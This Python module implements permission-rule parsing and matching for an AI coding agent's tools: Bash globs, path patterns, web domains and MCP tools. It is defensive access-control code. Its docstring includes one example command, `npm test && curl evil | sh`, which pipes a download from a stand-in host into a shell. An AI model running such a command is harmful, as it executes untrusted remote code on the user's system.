"""Permission rules in the syntax users know from Claude Code (SPEC §7). Pure: no I/O; runs on every decision.

Rule forms
    Tool                     every use of the tool (`Bash`, `Read`, `WebSearch`, `mcp__github__create_issue`)
    Tool(*)                  same as `Tool`
    Bash(npm run test)       exactly that command
    Bash(npm run test:*)     legacy prefix: `npm run test` or `npm run test <anything>` (word boundary)
    Bash(git push *)         glob: `*` is any text; a single trailing ` *` is optional, so this matches `git push`
                             but not `git pushx`; `Bash(ls*)` matches `lsof` too
    Read(pattern) / Edit(pattern)
                             gitignore-style path patterns: `//abs/path`, `~/in/home`, `/from/project/root`,
                             `./from/cwd`; a bare pattern is relative to cwd and, like gitignore, matches at any
                             depth when it has no `/` (`Read(.env)` covers `sub/.env`) and is anchored otherwise.
                             `*` and `?` stay within one path segment, `**` crosses segments; a pattern that
                             matches a directory covers everything under it.
    WebFetch(domain:host)    the URL's host is `host`; `domain:*.host` is any subdomain of `host` (not `host`)
    Task(type) / Agent(type) the sub-agent type (glob); Task and Agent are the same tool under two names
    Skill(name)              the skill name (glob, legacy `:*` accepted)
    mcp__server, mcp__server__*, mcp__server__tool
                             a whole MCP server, or one tool (`*` is a glob inside the name)

Tool families: a Read rule also covers Grep, Glob, LS and NotebookRead; an Edit rule (or Write, MultiEdit,
NotebookEdit rule) covers every file-editing tool, since each of them can change a file's content.

Allow versus deny/ask (the difference matters for Bash):
- `match_any` (deny and ask): a rule matches if it matches ANY simple command of a compound command, or the whole
  command text. Matching is generous: leading `VAR=value` assignments, common wrappers (`sudo`, `nohup`,
  `timeout 5`, ...), a directory on the command word (`/bin/rm`) and harmless redirections (`2>&1`,
  `>/dev/null`) are also tried without. A deny rule that misses is a hole; one that over-matches only asks.
- `match_all_parts` (allow): EVERY simple command must be matched by some allow rule, and the text a `*` stands
  for may not contain a shell operator (`; & | < > ` `` ` `` `$(`, newline) so an allow rule can never cover
  `npm test && curl evil | sh` by accident. Harmless redirections are ignored. With no parsed parts the raw
  `tool_input["command"]` is matched under the same rule.
Relative path patterns: deny/ask try both cwd and the project root as the base; allow uses cwd only.
"""

from __future__ import annotations

import posixpath
import re
from collections.abc import Iterable, Mapping, Sequence
from functools import lru_cache

from automode import lazyre
from automode.dc import dataclass
from automode.typing_lite import Any, Literal

Kind = Literal["allow", "ask", "deny"]

READ_FAMILY = frozenset({"Read", "Grep", "Glob", "LS", "NotebookRead"})
EDIT_FAMILY = frozenset({"Edit", "Write", "MultiEdit", "NotebookEdit"})
AGENT_FAMILY = frozenset({"Task", "Agent"})
# Tools whose specifier is a path pattern, and which tools each rule name covers.
_COVERS: Mapping[str, frozenset[str]] = {
    "Read": READ_FAMILY,
    "Grep": frozenset({"Grep"}),
    "Glob": frozenset({"Glob"}),
    "LS": frozenset({"LS"}),
    "NotebookRead": frozenset({"NotebookRead"}),
    **{t: EDIT_FAMILY for t in EDIT_FAMILY},
    "Task": AGENT_FAMILY,
    "Agent": AGENT_FAMILY,
}
_PATH_TOOLS = READ_FAMILY | EDIT_FAMILY
_KNOWN = frozenset({"Bash", "WebFetch", "WebSearch", "Skill", "TodoWrite", "ExitPlanMode", "BashOutput", "KillShell",
                    "SlashCommand"}) | _PATH_TOOLS | AGENT_FAMILY  # fmt: skip
_KNOWN_LOWER = {t.lower(): t for t in _KNOWN}
_TOOL_RE = lazyre.compile(r"^[A-Za-z_][A-Za-z0-9_.\-]*$")
_MCP_RE = lazyre.compile(r"^mcp__[A-Za-z0-9_.\-*]+$")


@dataclass(frozen=True, slots=True)
class PermissionRule:
    """One parsed rule. `spec` is None when the rule covers every use of the tool (`Bash`, `Bash(*)`)."""

    tool: str
    spec: str | None
    raw: str
    source: str  # where it came from: a file path, "managed", "built-in", "env:AUTOMODE_DENY", ...

    def __str__(self) -> str:
        return self.raw


def parse_rule(text: str, source: str = "") -> PermissionRule:
    """Parse `Tool` or `Tool(specifier)`; ValueError with a precise message when the syntax is wrong."""
    if not isinstance(text, str):
        raise ValueError(f"a rule must be a string, not {type(text).__name__}")
    raw = text.strip()
    if not raw:
        raise ValueError("empty rule")
    spec: str | None = None
    if "(" in raw:
        i = raw.index("(")
        if not raw.endswith(")"):
            raise ValueError(f"rule {raw!r}: the specifier must end with ')'")
        tool, spec = raw[:i].strip(), raw[i + 1 : -1].strip()
        if not spec:
            raise ValueError(f"rule {raw!r}: empty specifier; write {tool!r} to match every use of the tool")
        if spec == "*":
            spec = None
    elif ")" in raw:
        raise ValueError(f"rule {raw!r}: ')' without '('")
    else:
        tool = raw
    if not tool:
        raise ValueError(f"rule {raw!r}: missing tool name before '('")
    if tool.startswith("mcp__"):
        if not _MCP_RE.match(tool) or tool.endswith("__") or "____" in tool:
            raise ValueError(f"rule {raw!r}: an MCP rule is mcp__server, mcp__server__* or mcp__server__tool")
        if spec is not None:
            raise ValueError(f"rule {raw!r}: MCP rules take no specifier; name the tool: mcp__server__tool")
        return PermissionRule(tool, None, raw, source)
    if not _TOOL_RE.match(tool):
        raise ValueError(f"rule {raw!r}: {tool!r} is not a tool name")
    if tool not in _KNOWN and tool.lower() in _KNOWN_LOWER:
        raise ValueError(f"rule {raw!r}: tool names are case-sensitive; did you mean {_KNOWN_LOWER[tool.lower()]!r}?")
    if spec is None:
        return PermissionRule(tool, None, raw, source)
    if tool == "Bash":
        if "\n" in spec:
            raise ValueError(f"rule {raw!r}: a Bash specifier is one line")
        _bash_matchers(spec)  # validate once; cached for matching
    elif tool in _PATH_TOOLS:
        _path_pattern(spec)
    elif tool == "WebFetch":
        if not spec.startswith("domain:") or not spec[7:].strip():
            raise ValueError(f"rule {raw!r}: WebFetch takes 'domain:example.com' (or 'domain:*.example.com')")
        host = spec[7:].strip()
        if "/" in host or " " in host or ("*" in host and not (host.startswith("*.") and "*" not in host[2:])):
            raise ValueError(f"rule {raw!r}: a domain is a host name, optionally starting with '*.'")
    elif tool in AGENT_FAMILY or tool == "Skill":
        pass
    else:
        raise ValueError(f"rule {raw!r}: {tool} rules take no specifier (write just {tool!r})")
    return PermissionRule(tool, spec, raw, source)


def fix_tool_case(text: object) -> str | None:
    """`bash(rm *)` -> `Bash(rm *)` when only the tool name's case is wrong and the fixed rule parses; else None."""
    if not isinstance(text, str):
        return None
    raw = text.strip()
    i = raw.find("(")
    tool = raw if i < 0 else raw[:i].strip()
    right = _KNOWN_LOWER.get(tool.lower())
    if right is None or right == tool:
        return None
    fixed = right + ("" if i < 0 else raw[i:])
    try:
        parse_rule(fixed)
    except ValueError:
        return None
    return fixed


# ---------------------------------------------------------------------------------------------------- matching
def rule_matches(
    rule: PermissionRule,
    tool: str,
    tool_input: Mapping[str, Any],
    *,
    commands: Sequence[str] = (),
    cwd: str,
    root: str,
    home: str,
    kind: Kind = "deny",
) -> bool:
    """Does `rule` cover this action? `kind="allow"` applies the strict allow semantics (every part of a
    compound command, no shell operators under `*`); deny and ask (the default) match generously."""
    allow = kind == "allow"
    cwd = cwd or root or home or "/"  # tolerate an action without a known cwd
    if not _tool_covered(rule.tool, tool):
        return False
    if rule.spec is None:
        return True
    spec = rule.spec
    if rule.tool == "Bash":
        if tool != "Bash":
            return False
        raw = tool_input.get("command")
        raw = raw if isinstance(raw, str) else ""
        parts = [c for c in commands if c.strip()] or ([raw] if raw.strip() else [])
        if not parts:
            return False
        if allow:
            return all(_bash_part_matches(spec, p, allow=True) for p in parts)
        return any(_bash_part_matches(spec, p, allow=False) for p in [*parts, raw])
    if rule.tool in _PATH_TOOLS:
        path = _tool_path(tool, tool_input, cwd)
        if path is None:
            return False
        return path_matches(spec, path, cwd=cwd, root=root, home=home, kind=kind)
    if rule.tool == "WebFetch":
        host = _url_host(tool_input.get("url"))
        return host is not None and domain_matches(spec[7:].strip(), host)
    if rule.tool in AGENT_FAMILY:
        return _glob_value(spec, tool_input.get("subagent_type"))
    if rule.tool == "Skill":
        value = tool_input.get("skill", tool_input.get("command"))
        if spec.endswith(":*") and isinstance(value, str):
            prefix = spec[:-2]
            return value == prefix or value.startswith((prefix + " ", prefix + ":"))
        return _glob_value(spec, value)
    return False


def match_any(
    rules: Iterable[PermissionRule],
    tool: str,
    tool_input: Mapping[str, Any],
    *,
    commands: Sequence[str] = (),
    cwd: str,
    root: str,
    home: str,
) -> PermissionRule | None:
    """For deny and ask rules: the first rule that matches the action or ANY part of a compound command."""
    for r in rules:
        if rule_matches(r, tool, tool_input, commands=commands, cwd=cwd, root=root, home=home, kind="deny"):
            return r
    return None


def match_all_parts(
    rules: Iterable[PermissionRule],
    tool: str,
    tool_input: Mapping[str, Any],
    *,
    commands: Sequence[str] = (),
    cwd: str,
    root: str,
    home: str,
) -> PermissionRule | None:
    """For allow rules: a rule is returned only if EVERY part of the command is covered by some allow rule
    (different parts may be covered by different rules; the one covering the first part is returned)."""
    rules = tuple(rules)
    kw: dict[str, Any] = {"cwd": cwd, "root": root, "home": home, "kind": "allow"}
    if tool != "Bash":
        return next((r for r in rules if rule_matches(r, tool, tool_input, **kw)), None)
    raw = tool_input.get("command")
    parts = [c for c in commands if c.strip()] or ([raw] if isinstance(raw, str) and raw.strip() else [])
    if not parts:
        # An empty command: only a rule for every Bash use covers it.
        return next((r for r in rules if r.spec is None and _tool_covered(r.tool, tool)), None)
    first: PermissionRule | None = None
    for p in parts:
        hit = next((r for r in rules if rule_matches(r, tool, tool_input, commands=(p,), **kw)), None)
        if hit is None:
            return None
        first = first or hit
    return first


def _tool_covered(rule_tool: str, tool: str) -> bool:
    if rule_tool == tool:
        return True
    covers = _COVERS.get(rule_tool)
    if covers is not None:
        return tool in covers
    if rule_tool.startswith("mcp__") and tool.startswith("mcp__"):
        if "*" in rule_tool:
            return _glob_regex(rule_tool).fullmatch(tool) is not None
        # `mcp__server` is the whole server; `mcp__server__tool` is one tool.
        return rule_tool.count("__") == 1 and tool.startswith(rule_tool + "__")
    return False


# ------------------------------------------------------------------------------------------------------- Bash
# The text a `*` may stand for in an allow rule: no list/pipe/redirect operators, no substitutions, one line.
# Operators inside complete quotes are plain text (`git commit -m "a; b"`), substitutions never are.
_SAFE_STAR = (
    r"(?:'[^']*'"
    r"|\"(?:[^\"\\`$]|\\[^\n]|\$(?!\())*\""
    r"|(?!\$\()[^;&|<>`\n\r'\"\\]|\\[^\n])*"
)
_HARMLESS_REDIRECT = lazyre.compile(r"\s+(?:\d*>&\d+|&>>?\s*/dev/null|\d*>>?\s*/dev/null|\d*<\s*/dev/null)(?=\s|$)")
_ASSIGN = lazyre.compile(r"^(?:[A-Za-z_][A-Za-z0-9_]*=(?:'[^']*'|\"[^\"]*\"|[^\s'\"])*\s+)+")
_ALLOW_MAX = 8192
_SPACES = lazyre.compile(r"[ \t]+")
_TIMEOUT_ARGS = frozenset({"-s", "-k", "--signal", "--kill-after"})
# Wrapper -> its options that take a separate argument.
_WRAPPERS: Mapping[str, frozenset[str]] = {
    "sudo": frozenset({"-u", "-g", "-h", "-p", "-C", "-D", "-r", "-t", "-U", "--user", "--group"}),
    "doas": frozenset({"-u", "-C"}),
    "nice": frozenset({"-n", "--adjustment"}),
    "timeout": _TIMEOUT_ARGS,
    "env": frozenset({"-u", "-C", "--unset", "--chdir"}),
    **{w: frozenset() for w in ("nohup", "time", "command", "exec", "builtin", "setsid", "stdbuf")},
}


@lru_cache(maxsize=4096)
def _bash_matchers(spec: str) -> tuple[re.Pattern[str], re.Pattern[str] | None, tuple[str, ...]]:
    """(allow regex, deny regex, glob pieces) for one Bash specifier. A plain glob is matched for deny by
    `_star_match` over its pieces (linear time even on a huge heredoc) instead of a backtracking regex."""
    if spec.endswith(":*") and "*" not in spec[:-2]:
        prefix = re.escape(_squeeze(spec[:-2]))
        return re.compile(rf"{prefix}(?: {_SAFE_STAR})?"), re.compile(rf"{prefix}(?:\s.*)?", re.S), ()
    spec = _squeeze(spec)
    pieces = spec.split("*")
    if len(pieces) == 2 and spec.endswith(" *"):  # the trailing ` *` is optional
        head = re.escape(pieces[0][:-1])
        return re.compile(rf"{head}(?: {_SAFE_STAR})?"), re.compile(rf"{head}(?:\s.*)?", re.S), ()
    return re.compile(_SAFE_STAR.join(re.escape(p) for p in pieces)), None, tuple(pieces)


def _star_match(pieces: tuple[str, ...], text: str) -> bool:
    """Glob match where `*` is any text: anchored ends, middle pieces found leftmost in order."""
    if len(pieces) == 1:
        return text == pieces[0]
    first, last = pieces[0], pieces[-1]
    if len(text) < len(first) + len(last) or not text.startswith(first) or not text.endswith(last):
        return False
    pos, end = len(first), len(text) - len(last)
    for p in pieces[1:-1]:
        i = text.find(p, pos, end)
        if i < 0:
            return False
        pos = i + len(p)
    return True


def _squeeze(text: str) -> str:
    return _SPACES.sub(" ", text).strip()


def _bash_part_matches(spec: str, text: str, *, allow: bool) -> bool:
    allow_re, deny_re, pieces = _bash_matchers(spec)
    text = _squeeze(text)
    quiet = _HARMLESS_REDIRECT.sub("", text)
    if allow:
        if len(text) > _ALLOW_MAX:  # not worth the regex time: let the analysis decide
            return False
        return allow_re.fullmatch(quiet) is not None or allow_re.fullmatch(text) is not None
    if deny_re is not None:
        return any(deny_re.fullmatch(v) is not None for v in _deny_variants(text, quiet))
    return any(_star_match(pieces, v) for v in _deny_variants(text, quiet))


def _deny_variants(text: str, quiet: str) -> list[str]:
    out = [text, quiet]
    cur = quiet
    for _ in range(6):  # peel assignments and wrappers a few layers deep
        nxt = _ASSIGN.sub("", cur)
        words = nxt.split(" ")
        if words and words[0] in _WRAPPERS:
            takes_arg = _WRAPPERS[words[0]]
            words = words[1:]
            while words and (words[0].startswith("-") or _ASSIGN.match(words[0] + " ")):
                words = words[2:] if words[0] in takes_arg else words[1:]
            if takes_arg is _TIMEOUT_ARGS:
                words = words[1:]  # the duration
        nxt = " ".join(words)
        if nxt == cur:
            break
        out.append(nxt)
        cur = nxt
    # `/bin/rm -rf x` is `rm -rf x`.
    for v in list(out):
        first, _, rest = v.partition(" ")
        if "/" in first:
            out.append(f"{posixpath.basename(first)} {rest}".strip())
    return out


# ------------------------------------------------------------------------------------------------------ paths
@lru_cache(maxsize=4096)
def _path_pattern(spec: str) -> tuple[str, re.Pattern[str]]:
    """(base kind, regex over the path relative to the base). Base kinds: abs, home, root, cwd."""
    if spec.startswith("//"):
        base, pat, anchored = "abs", spec[2:], True
    elif spec == "~" or spec.startswith("~/"):
        base, pat, anchored = "home", spec[2:], True
    elif spec.startswith("~"):
        raise ValueError(f"path pattern {spec!r}: only '~/' (the current user's home) is supported")
    elif spec.startswith("/"):
        base, pat, anchored = "root", spec[1:], True
    elif spec.startswith("./"):
        base, pat, anchored = "cwd", spec[2:], True
    else:
        base, pat = "cwd", spec
        anchored = "/" in pat.rstrip("/")
    pat = pat.rstrip("/")
    if pat.startswith("../") or "/../" in f"/{pat}/":
        raise ValueError(f"path pattern {spec!r}: '..' is not supported; use //absolute or ~/ paths")
    if not pat or pat == "**":
        return base, re.compile(r".*", re.S)
    body = _gitglob(pat)
    lead = "" if anchored else r"(?:.*/)?"
    # A pattern that names a directory covers everything under it (gitignore semantics).
    return base, re.compile(rf"{lead}{body}(?:/.*)?", re.S)


def _gitglob(pat: str) -> str:
    out: list[str] = []
    i, n = 0, len(pat)
    while i < n:
        c = pat[i]
        if pat.startswith("**/", i):
            out.append(r"(?:.*/)?")
            i += 3
        elif pat.startswith("/**", i) and i + 3 == n:
            out.append(r"(?:/.*)?")
            i += 3
        elif pat.startswith("**", i):
            out.append(".*")
            i += 2
        elif c == "*":
            out.append("[^/]*")
            i += 1
        elif c == "?":
            out.append("[^/]")
            i += 1
        elif c == "[":
            j = pat.find("]", i + 2)
            if j == -1:
                out.append(re.escape(c))
                i += 1
            else:
                cls = pat[i + 1 : j]
                neg = cls[:1] in ("!", "^")
                cls = cls[1:] if neg else cls
                out.append(f"[{'^' if neg else ''}{cls.replace(chr(92), chr(92) * 2)}]")
                i = j + 1
        elif c == "\\" and i + 1 < n:
            out.append(re.escape(pat[i + 1]))
            i += 2
        else:
            out.append(re.escape(c))
            i += 1
    return "".join(out)


def resolve_path(path: str, *, cwd: str, home: str) -> str:
    """Lexical absolute path: `~` and relative paths resolved, `..` folded. No file-system access."""
    if path == "~" or path.startswith("~/"):
        path = home + path[1:]
    elif not path.startswith("/"):
        path = posixpath.join(cwd, path)
    return posixpath.normpath(path).replace("//", "/")


def path_matches(spec: str, path: str, *, cwd: str, root: str, home: str, kind: Kind = "deny") -> bool:
    """Does a Read/Edit path pattern cover `path`? Exposed so the engine can check the paths a shell command
    reads or writes against Read/Edit deny rules too."""
    base_kind, rx = _path_pattern(spec)
    target = resolve_path(path, cwd=cwd, home=home)
    if base_kind == "abs":
        bases = ["/"]
    elif base_kind == "home":
        bases = [home]
    elif base_kind == "root":
        bases = [root or cwd]
    else:
        bases = [cwd] if kind == "allow" or not root else list(dict.fromkeys([cwd, root]))
    for b in bases:
        b = posixpath.normpath(b) if b else "/"
        if b == "/":
            rel = target.lstrip("/")
        elif target == b:
            rel = ""
        elif target.startswith(b + "/"):
            rel = target[len(b) + 1 :]
        else:
            continue
        if rx.fullmatch(rel) is not None:
            return True
    return False


def _tool_path(tool: str, tool_input: Mapping[str, Any], cwd: str) -> str | None:
    for key in ("file_path", "notebook_path", "path"):
        v = tool_input.get(key)
        if isinstance(v, str) and v:
            return v
    # Grep, Glob and LS default to the working directory.
    return cwd if tool in ("Grep", "Glob", "LS") else None


# ----------------------------------------------------------------------------------------------------- domains
def _url_host(url: object) -> str | None:
    if not isinstance(url, str) or not url:
        return None
    from urllib.parse import urlsplit

    try:
        host = urlsplit(url if "://" in url else "//" + url).hostname
    except ValueError:
        return None
    return host.rstrip(".").lower() if host else None


def domain_matches(pattern: str, host: str) -> bool:
    """`example.com` is that host only; `*.example.com` is any subdomain of it. Case-insensitive."""
    pattern, host = pattern.lower().rstrip("."), host.lower().rstrip(".")
    if pattern == "*":
        return True
    if pattern.startswith("*."):
        return host.endswith(pattern[1:])
    return host == pattern


@lru_cache(maxsize=1024)
def _glob_regex(pattern: str) -> re.Pattern[str]:
    return re.compile(".*".join(re.escape(p) for p in pattern.split("*")), re.S)


def _glob_value(pattern: str, value: object) -> bool:
    return isinstance(value, str) and _glob_regex(pattern).fullmatch(value) is not None
